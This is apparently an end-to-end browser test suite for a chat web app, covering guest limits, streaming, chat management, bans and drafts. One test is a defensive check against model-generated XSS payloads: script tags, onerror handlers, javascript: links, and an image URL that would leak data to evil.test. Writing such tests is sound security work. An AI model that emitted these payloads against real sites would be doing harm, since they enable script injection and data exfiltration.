import { waitUntil } from '@parley/testing'
import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { screenshot } from '../src/browser.ts'
import { itWhereItApplies } from '../src/deviations.ts'
import { intercept } from '../src/intercept.ts'
import { answers, asAdmin, composer, enter, hear, registerInBrowser, registerPerson, say } from '../src/people.ts'
import { it, type SharedSystem } from '../src/shared-system.ts'

const words = (count: number): string[] => Array.from({ length: count }, (_, index) => `word${index} `)

declare const getComputedStyle: (element: unknown) => { readonly backgroundColor: string }

describe('a user in the browser', () => {
  let on: SharedSystem
  let page: Page
  let people = 0
  const newName = (): string => {
    people += 1
    return `person${people}`
  }

  it.beforeAll(async ({ shared }) => {
    on = shared
    await shared.begin()
  })
  it.beforeEach(({ visitor }) => {
    on.provider.reset()
    page = visitor.page
  })

  it('sends two messages as a guest and is asked to sign in for the third, which is kept', async () => {
    // Guests share an allowance per network; this network has not used any of it.
    await page.setExtraHTTPHeaders({ 'x-forwarded-for': '192.0.2.7' })
    await page.goto('/')
    await say(page, 'First question')
    await hear(page, 'You said: First question')
    await page.getByText('1 of 2 guest messages left').waitFor()
    await say(page, 'Second question')
    await hear(page, 'You said: Second question')
    await page.getByText('Message limit reached').first().waitFor()
    await composer(page).fill('Third question')
    await screenshot(page, 'guest-limit')
    const links = page.getByRole('link', { name: 'Sign in', exact: true }).filter({ visible: true })
    const [aside, main] = await links.evaluateAll((shown) =>
      shown.map((link) => getComputedStyle(link).backgroundColor),
    )
    expect(aside).toBe('rgba(0, 0, 0, 0)')
    expect(main).not.toBe(aside)
    await page.getByRole('link', { name: 'Sign in' }).last().click()
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    await page.getByLabel('Username or email').fill(on.system.admin.username)
    await page.getByLabel('Password', { exact: true }).fill(on.system.admin.password)
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await composer(page).waitFor()
    expect(await composer(page).inputValue()).toBe('Third question')
    expect(on.provider.calls).toHaveLength(2)
  })

  it('registers with the mailed code, chats, reloads during an answer and sees it continue', async () => {
    await registerInBrowser(page, on.system, newName())
    const chunks = words(120)
    on.provider.reply({ chunks, delayMs: 30 })
    await say(page, 'Tell me a long story')
    await answers(page).filter({ hasText: 'word5' }).waitFor()
    await page.waitForURL(/\/c\//)
    await page.reload()
    await answers(page).filter({ hasText: 'word5' }).waitFor()
    await hear(page, 'word119')
    expect((await answers(page).last().textContent())?.replace(/\s+/g, ' ')).toContain(chunks.join('').trim())
    expect(on.provider.calls).toHaveLength(1)
    await page.getByText('99 of 100 credits left').waitFor()
  })

  it('stops an answer, keeps its text and sends another message', async () => {
    await enter(page, await registerPerson(on.system, newName()))
    on.provider.reply({ chunks: words(50), hang: { after: 10 } })
    await say(page, 'Never end')
    await answers(page).filter({ hasText: 'word9' }).waitFor()
    await page.getByRole('button', { name: 'Stop generating' }).click()
    await page.getByText('You stopped this answer.').waitFor()
    await on.provider.aborted(1)
    await page.reload()
    await answers(page).filter({ hasText: 'word9' }).waitFor()
    await say(page, 'Again')
    await hear(page, 'You said: Again')
  })

  it('sees that an answer was interrupted, and retries it', async () => {
    await enter(page, await registerPerson(on.system, newName()))
    on.provider.reply({ chunks: ['Half ', 'an ', 'answer'], cutAfterChunks: 2 })
    await say(page, 'Break')
    await answers(page).filter({ hasText: 'Half an' }).waitFor()
    on.provider.reply({ text: 'A whole answer' })
    await page.getByRole('button', { name: 'Retry' }).click()
    await hear(page, 'A whole answer')
  })

  it('renames, pins, deletes and undoes, and bulk-deletes five chats', async () => {
    await enter(page, await registerPerson(on.system, newName()))
    for (let chat = 1; chat <= 6; chat += 1) {
      await say(page, `Topic number ${chat}`)
      await hear(page, `You said: Topic number ${chat}`)
      await page.getByRole('link', { name: `Topic number ${chat}` }).waitFor()
      await page
        .getByRole('button', { name: 'New chat' })
        .or(page.getByRole('link', { name: 'New chat' }))
        .first()
        .click()
    }
    const option = async (title: string, name: string): Promise<void> => {
      await page.getByRole('button', { name: `Options for ${title}` }).click()
      await page.getByRole('menuitem', { name, exact: true }).click()
    }
    await option('Topic number 6', 'Rename')
    await page.getByRole('textbox', { name: 'New title' }).fill('My favourite')
    await page.keyboard.press('Enter')
    await page.getByRole('link', { name: 'My favourite' }).waitFor()
    await option('My favourite', 'Pin')
    await page.getByText('Pinned').waitFor()
    await page.getByRole('link', { name: 'My favourite' }).click()
    await answers(page).first().waitFor()
    await option('My favourite', 'Delete')
    await page.getByRole('link', { name: 'My favourite' }).waitFor({ state: 'detached' })
    expect(await answers(page).count()).toBe(0)
    await page.getByRole('button', { name: 'Undo' }).click()
    await page.getByRole('link', { name: 'My favourite' }).waitFor()
    await hear(page, 'You said: Topic number 6')
    await page.getByRole('link', { name: 'Topic number 3' }).click()
    await hear(page, 'You said: Topic number 3')
    // Its answer arrives once the page has left the deleted chat, for whichever reason.
    await intercept(page, '/chat/bulk', async (call) => {
      const response = await call.fetch()
      await page.getByRole('heading', { name: /what can I help with/ }).waitFor()
      return response
    })
    await page.getByRole('button', { name: 'List options' }).click()
    await page.getByRole('menuitem', { name: 'Select chats' }).click()
    await page.getByRole('checkbox', { name: 'Select Topic number 5' }).click()
    await page.getByRole('checkbox', { name: 'Select Topic number 1' }).click({ modifiers: ['Shift'] })
    await page.getByText('5 selected').waitFor()
    await screenshot(page, 'selection')
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click()
    await page.getByText('5 chats deleted').waitFor()
    expect(await page.getByText('This chat was deleted in another tab').count()).toBe(0)
    await page
      .getByRole('link', { name: /Topic number/ })
      .first()
      .waitFor({ state: 'detached' })
    await page.reload()
    await page.getByRole('link', { name: 'My favourite' }).waitFor()
    expect(await page.getByRole('link', { name: /Topic number/ }).count()).toBe(0)
  })

  it('sees a ban, and its end, at once', async () => {
    const person = await registerPerson(on.system, newName())
    await enter(page, person)
    await composer(page).waitFor()
    const admin = await asAdmin(on.system)
    await admin.api.patch(`/api/admin/users/${person.id}`, { banned: true })
    await page.getByText('Account Suspended').waitFor()
    await page.getByRole('alertdialog').getByText('Your account has been banned.').waitFor()
    await screenshot(page, 'suspended')
    await admin.api.patch(`/api/admin/users/${person.id}`, { banned: false })
    await page.getByText('Account Suspended').waitFor({ state: 'detached' })
    await admin.close()
  })

  it('is safe from a model’s text: it runs no script and loads nothing from other origins', async () => {
    await enter(page, await registerPerson(on.system, newName()))
    const hostile = [
      '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">',
      '[click](javascript:window.hacked=1) ![pixel](https://evil.test/p.png?d=secret) <iframe srcdoc="x"></iframe>',
      '```html\n<img src=x onerror="window.hacked = 1">\n```',
      'The end of it.',
    ].join('\n\n')
    on.provider.reply({ text: hostile })
    await say(page, 'Attack')
    await hear(page, 'The end of it.')
    await page.getByRole('link', { name: 'Open image “pixel” from evil.test' }).waitFor()
    expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
    expect(await answers(page).locator('script, iframe, img, svg[onload], a[href^="javascript"]').count()).toBe(0)
  })

  itWhereItApplies('keeps one draft per chat through a reload', async () => {
    await enter(page, await registerPerson(on.system, newName()))
    await composer(page).fill('An unfinished thought')
    await waitUntil(
      () => page.evaluate(() => JSON.stringify(localStorage).includes('An unfinished thought')),
      'the draft to be kept',
    )
    await page.reload()
    await composer(page).waitFor()
    expect(await composer(page).inputValue()).toBe('An unfinished thought')
  })
})
